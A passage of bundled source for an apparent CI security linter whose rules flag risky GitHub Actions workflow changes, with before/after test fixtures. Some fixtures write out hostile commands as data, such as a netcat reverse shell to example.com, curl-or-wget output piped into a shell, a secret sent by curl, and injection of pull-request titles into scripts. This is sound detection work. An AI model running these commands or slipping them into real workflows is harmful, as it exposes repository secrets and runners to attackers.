    fix: "Remove the variable, and write to `$GITHUB_ENV` instead.",
    equivalents: ["zizmor:insecure-commands", "checkov:CKV_GHA_1"],
    dialect: dialect25,
    governs: ({ keys }) => keys.at(-1) === "ACTIONS_ALLOW_UNSECURE_COMMANDS",
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "unsafe workflow commands forbidden",
      weak: "env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true }",
      safe: "env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: false }",
      path: path19,
      file: job3
    })
  })
];

// src/domains/config/workflows/elsewhere.ts
var ELSEWHERE = "elsewhere";
function withElsewhere(facts, pairs) {
  if (!facts.some(isGone2)) return facts;
  const workflows = pairs.filter(({ dialect: dialect30 }) => dialect30 === "github-workflow");
  const come = workflows.map((pair) => ({ path: pair.path, names: newNames(pair) }));
  return facts.map((fact4) => {
    const isElsewhere = come.some(({ path: path27, names: names2 }) => path27 !== fact4.after?.path && names2.has(nameOf4(fact4)));
    return isGone2(fact4) && isElsewhere ? { ...fact4, mark: ELSEWHERE } : fact4;
  });
}
var isGone2 = (fact4) => fact4.kind === "control-moved" && fact4.dialect === "github-workflow" && fact4.transition === "drop";
var nameOf4 = (fact4) => fact4.kind === "control-moved" ? fact4.name : "";
function newNames({ before: before3, after }) {
  const old = new Set(namesIn3(before3));
  return new Set(namesIn3(after).filter((name) => !old.has(name)));
}
var namesIn3 = (document) => [
  ...jobsOf(document).map(({ name }) => name),
  ...allSteps(document).map(({ label: label2 }) => label2)
];

// src/domains/config/rules/workflow/jobs.ts
var path20 = ".github/workflows/ci.yml";
var dialect26 = "github-workflow";
var CHECKS5 = /^(?:github\/codeql-action\/(?:analyze|upload-sarif)|actions\/dependency-review-action|ossf\/scorecard-action|gitleaks\/gitleaks-action|aquasecurity\/trivy-action|anchore\/(?:scan|sbom)-action|step-security\/harden-runner|sigstore\/|zizmorcore\/zizmor-action|trufflesecurity\/trufflehog|google\/osv-scanner-action|actions\/attest)/;
var CHECK_COMMANDS = /(?<![-\w])(?:cosign (?:sign|attest|verify)|syft|grype|trivy|gitleaks|trufflehog|semgrep|codeql (?:database|resolve)|zizmor|scorecard|osv-scanner|snyk|npm audit|pip-audit|cargo (?:audit|deny)|govulncheck)(?![-\w/])/;
function isHandled({ document, keys, ownerAfter }) {
  const id = textAt(ownerAfter, "id");
  const jobs = jobsOf(document.after);
  if (keys.includes("steps")) {
    const steps2 = jobs.find(({ name }) => name === keys[1])?.steps ?? [];
    return id !== void 0 && steps2.some(({ node }) => mentions(node, (text) => text.includes(`steps.${id}.outcome`)));
  }
  return jobs.some(({ node }) => mentions(node, (text) => text.includes(`needs.${keys[1]}.result`)));
}
function isStillRun({ document, before: before3 }) {
  const sense = before3 && senseOf4(before3);
  const count3 = (steps2) => steps2.filter(({ node }) => senseOf4(node) === sense).length;
  return sense !== void 0 && count3(allSteps(document.after)) >= count3(allSteps(document.before));
}
var senseOf4 = (node) => usesOf(node) ?? textAt(node, "run");
var egress = (policy4) => step(`uses: step-security/harden-runner@v2
with: { egress-policy: ${policy4} }`);
var jobs_default3 = [
  control({
    id: "config/workflow-secrets-inherited",
    class: "secret",
    title: "all secrets handed to a called workflow",
    why: "The called workflow, and every action in it, gets every secret of the repository.",
    fix: "Name the secrets it needs.",
    equivalents: ["zizmor:secrets-inherit"],
    dialect: dialect26,
    governs: inJob2("secrets"),
    rank: (node) => node.kind === "scalar" && node.text === "inherit" ? 0 : 1,
    absent: 1,
    outcomes: {
      flip: moved2("medium"),
      open: moved2("medium"),
      born: moved2("low"),
      hardened: hardened("only named secrets handed on")
    },
    examples: [
      {
        path: path20,
        before: job3('secrets: { TOKEN: "${{ secrets.TOKEN }}" }'),
        after: job3("secrets: inherit"),
        outcome: "flip"
      },
      { path: path20, before: job3(), after: job3("secrets: inherit"), outcome: "open" },
      { path: path20, before: "", after: job3("secrets: inherit"), outcome: "born" },
      { path: path20, before: job3("secrets: inherit"), after: job3(), outcome: "hardened" },
      { path: path20, before: job3(), after: job3('secrets: { TOKEN: "${{ secrets.TOKEN }}" }'), outcome: "none" }
    ]
  }),
  control({
    id: "config/workflow-failure-ignored",
    class: "availability",
    title: "failure ignored",
    why: "The workflow turns green although this part of it failed.",
    fix: "Let it fail, or take the step out.",
    dialect: dialect26,
    governs: (setting) => either(inJob2("continue-on-error"), inStep("continue-on-error"))(setting) && !isInReview(setting) && !isHandled(setting),
    rank: safeOff,
    ...weakWhenSet({
      risk: "medium",
      praise: "failure counts again",
      weak: "continue-on-error: true",
      safe: "continue-on-error: false",
      path: path20,
      file: job3
    })
  }),
  control({
    id: "config/workflow-check-removed",
    class: "observability",
    title: "security check removed",
    why: "What it used to find in code, dependencies or images now goes unseen.",
    fix: "Keep the check, or name the one that takes its place.",
    dialect: dialect26,
    governs: (setting) => setting.path.at(-1)?.kind === "item" && inStep()(setting) && !isStillRun(setting),
    cause: ({ document, keys }) => `${document.path} ${keys[1]}: checks`,
    mark: ({ document, keys }) => textAt(document.after?.root, "jobs", keys[1] ?? "", "uses") ? "called" : void 0,
    rank: (node) => CHECKS5.test(usesOf(node) ?? "") || CHECK_COMMANDS.test(textAt(node, "run") ?? "") ? 1 : void 0,
    absent: 0,
    outcomes: {
      drop: { risk: "medium", message: (c) => `The step \`${c.name}\`, which looks for trouble, was removed.` },
      called: {
        risk: "low",
        title: "security check left to a called workflow",
        message: (c) => `The step \`${c.name}\` was removed; its job now calls another workflow.`,
        why: "Whether that workflow looks for the same cannot be seen here.",
        fix: "Check that it does, and pin it by its commit."
      }
    },
    refine: ({ transition, mark: mark2 }) => {
      if (transition !== "drop" || mark2 === ELSEWHERE) return void 0;
      return mark2 === "called" ? "called" : "drop";
    },
    examples: [
      {
        path: path20,
        before: step("uses: ossf/scorecard-action@v2"),
        after: job3("uses: acme/shared/.github/workflows/scorecard.yml@v1").replace(/ {4}steps:[^]*/, ""),
        outcome: "called"
      },
      {
        path: path20,
        before: step("run: make").replace("- name", "- uses: github/codeql-action/analyze@v4\n      - name"),
        after: step("run: make"),
        outcome: "drop"
      },
      {
        path: path20,
        before: step("uses: actions/dependency-review-action@v4"),
        after: step("uses: actions/dependency-review-action@v5").replace("Build", "Review"),
        outcome: "none"
      },
      {
        path: path20,
        before: step("run: make").replace("- name", "- uses: actions/setup-node@v5\n      - name"),
        after: step("run: make"),
        outcome: "none"
      },
      {
        path: path20,
        before: step("run: make").replace(
          "- name",
          "- run: git clone https://github.com/github/codeql-action\n      - name"
        ),
        after: step("run: make"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/workflow-egress-watched",
    class: "observability",
    title: "network of a job only watched",
    why: "Code that steals secrets is recorded now, and no longer stopped.",
    fix: "Keep `block`, and list the hosts the job needs.",
    dialect: dialect26,
    governs: inStep("with", "egress-policy"),
    rank: unless("audit"),
    absent: 0,
    outcomes: { flip: moved2("medium"), drop: moved2("medium"), hardened: hardened("network of a job blocked") },
    examples: [
      { path: path20, before: egress("block"), after: egress("audit"), outcome: "flip" },
      { path: path20, before: egress("block"), after: step("uses: step-security/harden-runner@v2"), outcome: "drop" },
      { path: path20, before: egress("audit"), after: egress("block"), outcome: "hardened" },
      { path: path20, before: egress("block"), after: egress('"block"'), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/workflow/runners.ts
var path21 = ".github/workflows/ci.yml";
var dialect27 = "github-workflow";
var on = (event, runner) => job3("", `on: ${event}`).replace("runs-on: ubuntu-latest", `runs-on: ${runner}`);
var matrix = (runners) => on("pull_request", `\${{ matrix.os }}
    strategy: { matrix: { os: [${runners}] } }`);
var HOST_ACCESS = /--privileged|--cap-add|docker\.sock|--(?:pid|network|net|ipc)[= ]host/;
var isRunner = (setting) => setting.path.at(-1)?.kind !== "item" && (inJob2("runs-on")(setting) || isOfMatrix(setting));
function isOfMatrix({ keys, document }) {
  const [jobs, id = "", ...within4] = keys;
  if (jobs !== "jobs" || within4[0] !== "strategy" || within4[1] !== "matrix" || within4.length < 3) return false;
  const runsOn = textsOf(at(document.after?.root, "jobs", id, "runs-on")).join(" ");
  return runsOn.split(/[^\w.-]+/).includes(`matrix.${keys.at(-1)}`);
}
var startsOnPullRequests = ({ document }) => {
  const triggers = triggersOf(document.after);
  return triggers.has("pull_request") || triggers.has("pull_request_target");
};
var HOSTED = /^(?:ubuntu|windows|macos|linux)-?(?:latest|slim|\d[\w.]*)?(?:-(?:arm|x?large|intel|vs\d+|\d+)\w*)*$|^(?:ubuntu|macos|windows)-/;
var runnerOf = (node) => node.kind === "map" ? `group ${textAt(node, "group") ?? "unnamed"}` : textsOf(node).join(", ");
function selfHosted(node) {
  if (node.kind !== "map") return selfHostedLabels(node);
  return selfHostedLabels(at(node, "labels")) ?? Number(at(node, "group") === void 0);
}
function selfHostedLabels(node) {
  const labels = textsOf(node);
  if (labels.length === 0 || labels.some((label2) => label2.includes("${{"))) return void 0;
  return Number(!labels.includes("self-hosted") && labels.every((label2) => HOSTED.test(label2)));
}
var runners_default = [
  control({
    id: "config/workflow-self-hosted-strangers",
    class: "exposure",
    title: "pull requests run on machines of your own",
    why: "Whoever opens a pull request runs code on that machine, and may leave something there for the next job.",
    fix: "Run pull requests on hosted runners, or on machines that are thrown away after each job.",
    equivalents: ["zizmor:self-hosted-runner"],
    dialect: dialect27,
    governs: (setting) => isRunner(setting) && startsOnPullRequests(setting),
    rank: selfHosted,
    tell: runnerOf,
    outcomes: { flip: moved2("high"), born: moved2("medium"), hardened: hardened("pull requests run on hosted runners") },
    examples: [
      { path: path21, before: on("pull_request", "ubuntu-latest"), after: on("pull_request", "self-hosted"), outcome: "flip" },
      { path: path21, before: matrix("ubuntu-latest"), after: matrix("ubuntu-latest, self-hosted"), outcome: "flip" },
      { path: path21, before: matrix("ubuntu-latest"), after: matrix("ubuntu-latest, windows-2022"), outcome: "none" },
      { path: path21, before: "", after: on("pull_request", "[self-hosted, linux]"), outcome: "born" },
      { path: path21, before: on("pull_request", "ubuntu-latest"), after: on("pull_request", "our-runner"), outcome: "flip" },
      {
        path: path21,
        before: on("pull_request", "ubuntu-latest"),
        after: on("pull_request", "{ group: ours }"),
        outcome: "flip"
      },
      {
        path: path21,
        before: on("pull_request", "ubuntu-latest"),
        after: on("pull_request", "{ group: larger, labels: ubuntu-latest-16-cores }"),
        outcome: "none"
      },
      {
        path: path21,
        before: on("pull_request", "self-hosted"),
        after: on("pull_request", "ubuntu-latest"),
        outcome: "hardened"
      },
      { path: path21, before: on("push", "ubuntu-latest"), after: on("push", "self-hosted"), outcome: "none" },
      {
        path: path21,
        before: on("pull_request", "ubuntu-latest"),
        after: on("pull_request", "[ubuntu-latest]"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/workflow-self-hosted",
    class: "exposure",
    title: "job runs on a machine of your own",
    why: "What a job leaves on the machine, the next job finds.",
    fix: "Use machines that are thrown away after each job.",
    equivalents: ["zizmor:self-hosted-runner"],
    dialect: dialect27,
    governs: (setting) => isRunner(setting) && !startsOnPullRequests(setting),
    rank: selfHosted,
    tell: runnerOf,
    outcomes: { flip: moved2("medium") },
    examples: [
      { path: path21, before: on("push", "ubuntu-latest"), after: on("push", "self-hosted"), outcome: "flip" },
      { path: path21, before: on("push", "ubuntu-latest"), after: on("push", "ubuntu-24.04"), outcome: "none" },
      { path: path21, before: "", after: on("push", "self-hosted"), outcome: "none" }
    ]
  }),
  control({
    id: "config/workflow-container-privileged",
    class: "permission-widening",
    title: "container of a job gets host access",
    why: "A step in the container can take over the runner and whatever secrets pass through it.",
    fix: "Remove the option.",
    dialect: dialect27,
    governs: ({ keys }) => ["options", "volumes"].includes(keys.at(-1) ?? "") && (keys.at(-2) === "container" || keys.at(-3) === "services"),
    rank: (node) => Number(!textsOf(node).some((text) => HOST_ACCESS.test(text))),
    ...weakWhenSet({
      risk: "high",
      praise: "container of a job no longer has host access",
      weak: "container: { image: node, options: --privileged }",
      safe: "container: { image: node, options: --init }",
      path: path21,
      file: job3
    })
  })
];

// src/domains/config/rules/workflow/runs.ts
var path22 = ".github/workflows/ci.yml";
var dialect28 = "github-workflow";
var on2 = (events) => job3("", `on: ${events}`);
var isGate = isEffective("gate");
var FILTERS2 = ["branches", "branches-ignore", "tags", "tags-ignore"];
var isFilter = ({ keys, path: steps2 }) => keys.length === 3 && keys[0] === "on" && FILTERS2.includes(keys[2] ?? "") && steps2.at(-1)?.kind === "key";
var isCron = ({ keys }) => keys.join(".") === "on.schedule.cron";
var DEPLOYS = /deploy|release|publish|rollout|migrat/i;
var isCancelling = ({ keys }) => keys.slice(-2).join(".") === "concurrency.cancel-in-progress";
function deploys({ document: { after }, keys }) {
  const [part, name = ""] = keys;
  const names2 = [after?.path, textAt(after?.root, "name"), part === "jobs" ? name : void 0];
  if (names2.some((each) => each !== void 0 && DEPLOYS.test(each))) return true;
  return part === "jobs" && at(after?.root, "jobs", name, "environment") !== void 0;
}
var publishes = (document) => {
  const triggers = triggersOf(document);
  return triggers.has("release") || at(triggers.get("push"), "tags") !== void 0;
};
var caches = (node) => {
  if (node.kind === "scalar") return Number(/^(?:false|)$/.test(node.text));
  return usesOf(node) === "actions/cache" ? 0 : void 0;
};
var setup = (cache3, event) => step(
  `uses: actions/setup-node@v4
with: { node-version: 22${cache3 === "" ? "" : `, cache: ${cache3}`} }`,
  `on: ${event}`
);
function fixedness(node) {
  const [image] = node.kind === "scalar" ? textsOf(node) : [];
  if (image === void 0 || image.includes("$")) return void 0;
  if (image.includes("@")) return 2;
  return Number(/:[^:/]*\d[^:/]*$/.test(image));
}
var runs_default = [
  control({
    id: "config/workflow-runs-otherwise",
    class: "availability",
    title: "workflow runs at other times or on other branches",
    why: "Checks or jobs that people count on may no longer run where they expect them.",
    fix: "Check that required checks still run, and that schedules still fit what relies on them.",
    dialect: dialect28,
    governs: (setting) => either(isFilter, isGate, isCron)(setting) && !ranReview(setting.document),
    rank: (node, setting) => isGate(setting) ? 1 : untouched(node, setting),
    absent: 0,
    outcomes: { flip: moved2("low"), drop: { risk: "low", message: (c) => `\`${c.name}\` was removed.` } },
    refine: ({ transition }) => transition === "flip" || transition === "drop" ? transition : void 0,
    examples: [
      {
        path: path22,
        before: on2("{ push: { branches: [main, next] } }"),
        after: on2("{ push: { branches: [main] } }"),
        outcome: "flip"
      },
      { path: path22, before: on2("{ push: { branches: [main] } }"), after: on2("{ push: {} }"), outcome: "drop" },
      { path: path22, before: on2("{ pull_request: {}, push: {} }"), after: on2("{ push: {} }"), outcome: "drop" },
      {
        path: path22,
        before: on2("{ push: { branches: [a, b] } }"),
        after: on2("{ push: { branches: [b, a] } }"),
        outcome: "none"
      },
      { path: path22, before: on2("[pull_request, push]"), after: on2("push"), outcome: "drop" },
      { path: path22, before: on2("{ push: {} }"), after: on2("{ push: {}, pull_request: {} }"), outcome: "none" },
      { path: path22, before: on2("[pull_request, push]"), after: on2("{ push: {}, pull_request: {} }"), outcome: "none" }
    ]
  }),
  control({
    id: "config/workflow-deploy-cancelled",
    class: "availability",
    title: "deployment may be cut short",
    why: "The next push stops a deployment that runs, and leaves it half-way.",
    fix: "Keep `cancel-in-progress: false` on what deploys.",
    dialect: dialect28,
    governs: (setting) => isCancelling(setting) && deploys(setting),
    rank: safeOff,
    absent: 1,
    outcomes: { flip: moved2("low"), open: moved2("low"), hardened: hardened("deployment runs to its end") },
    refine: ({ transition }) => transition === "flip" || transition === "open" || transition === "hardened" ? transition : void 0,
    examples: [
      {
        path: path22,
        before: job3("environment: production\nconcurrency: { group: a, cancel-in-progress: false }"),
        after: job3("environment: production\nconcurrency: { group: a, cancel-in-progress: true }"),
        outcome: "flip"
      },
      {
        path: path22,
        before: job3("environment: production\nconcurrency: { group: a }"),
        after: job3("environment: production\nconcurrency: { group: a, cancel-in-progress: true }"),
        outcome: "open"
      },
      {
        path: path22,
        before: job3("environment: production\nconcurrency: { group: a, cancel-in-progress: true }"),
        after: job3("environment: production\nconcurrency: { group: a, cancel-in-progress: false }"),
        outcome: "hardened"
      },
      {
        path: path22,
        before: job3("concurrency: { group: a, cancel-in-progress: false }"),
        after: job3("concurrency: { group: a, cancel-in-progress: true }"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/workflow-release-cached",
    class: "supply-chain",
    title: "release built from a cache",
    why: "Any run of the repository may fill the cache: what it puts there ends up in the release.",
    fix: "Build releases without a cache.",
    equivalents: ["zizmor:cache-poisoning"],
    dialect: dialect28,
    governs: (setting) => (inStep("with", "cache")(setting) || inStep()(setting) && setting.path.at(-1)?.kind === "item") && publishes(setting.document.after),
    rank: caches,
    absent: 1,
    outcomes: {
      open: { risk: "medium", message: () => "A workflow that releases now uses a cache." },
      hardened: { ...hardened("release built without a cache"), message: () => "The release no longer uses a cache." }
    },
    refine: ({ transition }) => transition === "open" || transition === "hardened" ? transition : void 0,
    examples: [
      { path: path22, before: setup("", "release"), after: setup("npm", "release"), outcome: "open" },
      { path: path22, before: setup("npm", "release"), after: setup("", "release"), outcome: "hardened" },
      { path: path22, before: setup("", "push"), after: setup("npm", "push"), outcome: "none" }
    ]
  }),
  control({
    id: "config/workflow-image-unpinned",
    class: "supply-chain",
    title: "image of a job no longer fixed",
    why: "Whoever may move the tag chooses what runs in the job, with its secrets.",
    fix: "Name the image by its digest.",
    equivalents: ["zizmor:unpinned-images"],
    dialect: dialect28,
    governs: ({ keys }) => keys.at(-1) === "image" && (keys.at(-2) === "container" || keys.at(-3) === "services") || keys.at(-1) === "container" && keys.length === 3,
    rank: fixedness,
    outcomes: { flip: moved2("medium"), hardened: hardened("image of a job fixed") },
    refine: ({ transition }) => transition === "flip" || transition === "hardened" ? transition : void 0,
    examples: [
      {
        path: path22,
        before: job3(`container: { image: 'node@sha256:1f' }`),
        after: job3('container: { image: "node:22" }'),
        outcome: "flip"
      },
      { path: path22, before: job3("container: node:22"), after: job3("container: node:latest"), outcome: "flip" },
      {
        path: path22,
        before: job3('container: { image: "node:latest" }'),
        after: job3(`container: { image: 'node@sha256:1f' }`),
        outcome: "hardened"
      },
      {
        path: path22,
        before: job3('container: { image: "node:20" }'),
        after: job3('container: { image: "node:22" }'),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/workflow/scripts.ts
var path23 = ".github/workflows/ci.yml";
var called4 = (script) => step(`run: |
  ${script}`, "on: { workflow_call: { inputs: { target: { type: string } } } }");
var forStrangers = (script) => step(`run: |
  ${script}`, "on: pull_request_target");
var COMMIT = "abcdef12".repeat(5);
var given = step(`uses: acme/deploy@${COMMIT}
with: { token: "\${{ secrets.DEPLOY }}" }`);
var run = (script) => step(`run: |
  ${script}`);
var TAGGED = {
  class: "secret",
  why: "Whoever changes the action, or moves its tag, has the secret at the next run.",
  fix: "Pin the action by its commit, and give it a credential that can do no more than its task."
};
var PINNED = {
  class: "secret",
  why: "Whoever wrote the action has the secret; the commit it is pinned to keeps others from changing it.",
  fix: "Read that commit, and give it a credential that can do no more than its task."
};
var PIPED2 = {
  class: "supply-chain",
  title: "downloaded script run unseen",
  why: "Whoever controls that server, or the way to it, runs commands with the rights of the job.",
  fix: "Use an action pinned by its commit, or check the download against a known checksum before running it."
};
var scripts_default = [
  configRule({
    id: "config/workflow-script-risk",
    on: "script-risk",
    class: "permission-widening",
    title: "script of a workflow became risky",
    why: "A stranger who chooses the text chooses the commands that run with the rights of the job.",
    fix: "Pass the text through `env:` and use the variable in quotes.",
    outcomes: {
      injection: {
        risk: "high",
        title: "stranger\u2019s text becomes part of a script",
        message: (c) => `The script of \`${c.step}\` now has an expression in it that strangers fill in.`,
        equivalents: ["zizmor:template-injection", "checkov:CKV_GHA_2"]
      },
      input: {
        risk: "medium",
        title: "caller\u2019s text becomes part of a script",
        message: (c) => `The script of \`${c.step}\` now has an input in it that callers fill in.`,
        why: "Whoever chooses the input, in this repository or another, chooses the commands that run here.",
        equivalents: ["zizmor:template-injection"]
      },
      environment: {
        risk: "high",
        title: "environment of later steps written where strangers start the workflow",
        message: (c) => `The script of \`${c.step}\` now writes to the environment of the steps after it.`,
        why: "A stranger who chooses what is written chooses what the steps after it run, with the rights of the repository.",
        fix: "Pass the value as an output of the step instead.",
        equivalents: ["zizmor:github-env"]
      },
      "secret-sent": {
        risk: "high",
        class: "secret",
        title: "secret sent over the network",
        message: (c) => `The script of \`${c.step}\` now sends a secret to another host.`,
        why: "The other host gets the secret, and so does whoever reads the list of processes.",
        fix: "Pass the secret through `env:` to a tool that is made for that host.",
        equivalents: ["checkov:CKV_GHA_3"]
      },
      "secret-given": {
        risk: "high",
        title: "secret handed to an action of somebody else",
        message: (c) => `\`${c.step}\` now gets a secret of the repository.`,
        ...TAGGED
      },
      "new-step-given": {
        risk: "medium",
        title: "secret handed to a new action of somebody else",
        message: (c) => `The new step \`${c.step}\` gets a secret of the repository.`,
        ...TAGGED
      },
      "given-pinned": {
        risk: "medium",
        title: "secret handed to an action of somebody else",
        message: (c) => `\`${c.step}\` now gets a secret of the repository.`,
        ...PINNED
      },
      "new-step-given-pinned": {
        risk: "low",
        title: "secret handed to a new action of somebody else",
        message: (c) => `The new step \`${c.step}\` gets a secret of the repository.`,
        ...PINNED
      },
      "remote-shell": {
        risk: "high",
        class: "supply-chain",
        title: "shell opened to another host",
        message: (c) => `The script of \`${c.step}\` now opens a shell to another host.`,
        why: "Whoever is at the other end runs commands with the rights and the secrets of the job.",
        fix: "Remove it.",
        equivalents: ["checkov:CKV_GHA_4"]
      },
      "all-secrets": {
        risk: "high",
        class: "secret",
        title: "all secrets handed to one script",
        message: (c) => `The script of \`${c.step}\` now gets every secret of the repository.`,
        why: "Whoever controls the script, or reads its log, has all of them.",
        fix: "Name the secrets the script needs.",
        equivalents: ["zizmor:overprovisioned-secrets"]
      },
      download: {
        risk: "high",
        message: (c) => `The script of \`${c.step}\` now pipes a download into a shell.`,
        ...PIPED2
      },
      "new-download": {
        risk: "medium",
        message: (c) => `The script of \`${c.step}\`, in a new workflow, pipes a download into a shell.`,
        ...PIPED2
      },
      "ignored-failure": {
        risk: "low",
        class: "availability",
        title: "failure of a command ignored",
        message: (c) => `The script of \`${c.step}\` now goes on after a command that failed.`,
        why: "The job turns green although something in it broke.",
        fix: "Let it fail, or say in the script which failure is expected."
      }
    },
    examples: [
      {
        path: path23,
        before: run("echo building"),
        after: run('echo "${{ github.event.pull_request.title }}"'),
        outcome: "injection"
      },
      { path: path23, before: "", after: run("git switch ${{ github.head_ref }}"), outcome: "injection" },
      { path: path23, before: run("make"), after: run("echo '${{ toJSON(secrets) }}' > .env"), outcome: "all-secrets" },
      { path: path23, before: run("make"), after: run("curl -fsSL https://example.com/install.sh | sh"), outcome: "download" },
      { path: path23, before: "", after: run("wget -qO- https://example.com/i.sh | sudo bash"), outcome: "new-download" },
      { path: path23, before: run("make test"), after: run("make test || true"), outcome: "ignored-failure" },
      { path: path23, before: called4("echo"), after: called4("echo ${{ inputs.target }}"), outcome: "input" },
      { path: path23, before: forStrangers("echo"), after: forStrangers('echo "A=$B" >> $GITHUB_ENV'), outcome: "environment" },
      {
        path: path23,
        before: run("make"),
        after: run('curl -H "Authorization: ${{ secrets.TOKEN }}" https://example.com'),
        outcome: "secret-sent"
      },
      {
        path: path23,
        before: step("uses: acme/deploy@v4"),
        after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.DEPLOY }}" }'),
        outcome: "secret-given"
      },
      {
        path: path23,
        before: run("make"),
        after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.DEPLOY }}" }').replace("Build", "Deploy"),
        outcome: "new-step-given"
      },
      {
        path: path23,
        before: step(`uses: acme/deploy@${COMMIT}`),
        after: given,
        outcome: "given-pinned"
      },
      {
        path: path23,
        before: run("make"),
        after: given.replace("Build", "Deploy"),
        outcome: "new-step-given-pinned"
      },
      {
        path: path23,
        before: step("uses: acme/deploy@v4"),
        after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.GITHUB_TOKEN }}" }'),
        outcome: "none"
      },
      { path: path23, before: run("make"), after: run("nc -e /bin/sh example.com 4444"), outcome: "remote-shell" },
      { path: path23, before: run("make"), after: run("bash <(curl -s https://example.com/i.sh)"), outcome: "download" },
      { path: path23, before: run("echo"), after: run('echo "A=$B" >> $GITHUB_ENV'), outcome: "none" },
      { path: path23, before: run("make"), after: run('echo "${{ github.sha }}"'), outcome: "none" },
      { path: path23, before: run("make"), after: run("curl -o tool.tgz https://example.com/tool.tgz"), outcome: "none" },
      {
        path: path23,
        before: run("make"),
        after: step('env: { TITLE: "${{ github.event.issue.title }}" }\nrun: echo "$TITLE"'),
        outcome: "none"
      }
    ],
    classify: ({ risk, isNew, isNewStep, isPinned }) => {
      if (risk === "secret-given") {
        if (isNew) return void 0;
        if (isPinned === true) return isNewStep === true ? "new-step-given-pinned" : "given-pinned";
        return isNewStep === true ? "new-step-given" : risk;
      }
      if (!isNew) return risk;
      if (risk === "ignored-failure") return void 0;
      return risk === "download" ? "new-download" : risk;
    }
  })
];

// src/domains/config/rules/workflow/tests.ts
var path24 = ".github/workflows/ci.yml";
var dialect29 = "github-workflow";
var isJob2 = ({ keys, path: steps2 }) => keys.length === 2 && keys[0] === "jobs" && steps2.at(-1)?.kind === "key";
var isTests = (...fates) => (setting) => setting.after === void 0 && tests2(setting) && stays(setting) && fates.includes(fateOf(setting));
function tests2(setting) {
  if (isJob2(setting)) return TESTS.test(setting.keys[1] ?? "");
  const isStep = setting.path.at(-1)?.kind === "item" && inStep()(setting);
  return isStep && isStepOfTests(setting.name, setting.before);
}
var stays = ({ document }) => at(document.after?.root, "jobs")?.kind === "map";
var tested = ({ transition, subject }) => {
  if (transition !== "drop") return void 0;
  return subject.includes(".steps[") ? "step" : "job";
};
var tests_default2 = [
  control({
    id: "config/workflow-tests-removed",
    class: "availability",
    title: "tests no longer run",
    why: "What they used to find now reaches users.",
    fix: "Keep them, or run them elsewhere.",
    dialect: dialect29,
    governs: isTests("gone"),
    rank: () => 1,
    absent: 0,
    lostTogether: true,
    outcomes: {
      job: {
        risk: "medium",
        message: (c) => `The job \`${c.name}\` was removed or renamed.`,
        why: "What it used to find now reaches users; a branch rule that waits for the job by name waits for ever.",
        fix: "Keep the job, and change the branch rule in the same step where it gets another name."
      },
      step: { risk: "medium", message: (c) => `The step ${removal3(c)}.` },
      elsewhere: {
        risk: "low",
        title: "tests run in another workflow",
        message: (c) => `\`${c.name}\` now stands in another workflow.`,
        why: "A branch rule that waits for the job by name waits for ever; and other events may start it.",
        fix: "Change the branch rule in the same step."
      }
    },
    refine: (change) => change.mark === ELSEWHERE ? "elsewhere" : tested(change),
    examples: [
      {
        before: { [path24]: `${job3()}  lint: { steps: [{ run: make lint }] }
` },
        after: { [path24]: job3(), ".github/workflows/lint.yml": job3().replace("build:", "lint:") },
        outcome: "elsewhere"
      },
      { path: path24, before: `${job3()}  lint: { steps: [{ run: make lint }] }
`, after: job3(), outcome: "job" },
      { path: path24, before: `${job3()}      - { name: Test, run: make test }
`, after: job3(), outcome: "step" },
      { path: path24, before: `${job3()}      - { name: check, run: make check }
`, after: job3(), outcome: "step" },
      { path: path24, before: `${job3()}      - { name: check, run: ./is-due }
`, after: job3(), outcome: "none" },
      { path: path24, before: `${job3()}      - { name: Upload, run: make upload }
`, after: job3(), outcome: "none" },
      {
        path: path24,
        before: `${job3()}      - { name: Test, run: make test }
`,
        after: `${job3()}      - { name: Try it, run: "make build\\nmake test" }
`,
        outcome: "none"
      },
      { path: path24, before: job3(), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/workflow-tests-merged",
    class: "availability",
    title: "tests may run in another step",
    why: "Another step of tests changed along with it; what that one leaves out now reaches users.",
    fix: "Check that the other step runs them all.",
    dialect: dialect29,
    governs: isTests("merged", "moved"),
    rank: () => 1,
    absent: 0,
    outcomes: {
      job: {
        risk: "low",
        message: (c) => `The job \`${c.name}\` was removed; another runs its commands.`,
        why: "A branch rule that waits for the job by name waits for ever.",
        fix: "Change the branch rule in the same step."
      },
      step: { risk: "low", message: (c) => `The step ${removal3(c)}.` }
    },
    refine: tested,
    examples: [
      {
        path: path24,
        before: `${job3()}      - { name: Test, run: make test }
      - { name: Lint, run: make lint }
`,
        after: `${job3()}      - { name: Test, run: make test-and-lint }
`,
        outcome: "step"
      },
      {
        path: path24,
        before: `${job3()}  lint: { runs-on: x, steps: [{ run: make lint }] }
  docs: { env: { A: 1, B: 2 }, steps: [{ run: make docs }] }
`,
        after: `${job3()}  docs: { env: { A: 1, B: 2 }, steps: [{ run: make docs }, { run: make lint }] }
`,
        outcome: "job"
      },
      {
        path: path24,
        before: `${job3()}      - { name: Test, run: make test }
      - { name: Lint, run: make lint }
`,
        after: `${job3()}      - { name: Test, run: make test }
`,
        outcome: "none"
      }
    ]
  }),
  configRule({
    id: "config/workflow-tests-renamed",
    on: "key-renamed",
    class: "availability",
    title: "job of tests under another name",
    why: "A branch rule that waits for the job by its old name waits for ever, or no longer waits at all.",
    fix: "Change the branch rule in the same step.",
    outcomes: {
      renamed: { risk: "medium", message: (c) => `The job \`${c.from}\` is now \`${c.to}\`.` }
    },
    examples: [
      {
        path: path24,
        before: `${job3()}  lint: { runs-on: ubuntu-latest, steps: [{ run: make lint }] }
`,
        after: `${job3()}  linting: { runs-on: ubuntu-latest, steps: [{ run: make lint }] }
`,
        outcome: "renamed"
      },
      {
        path: path24,
        before: `${job3()}  docs: { runs-on: ubuntu-latest, steps: [{ run: make docs }] }
`,
        after: `${job3()}  document: { runs-on: ubuntu-latest, steps: [{ run: make docs }] }
`,
        outcome: "none"
      }
    ],
    classify: ({ dialect: of2, subject, from: from3 }) => of2 === dialect29 && /(?:^|: )jobs\.[^.[]+$/.test(subject) && TESTS.test(from3) ? "renamed" : void 0
  })
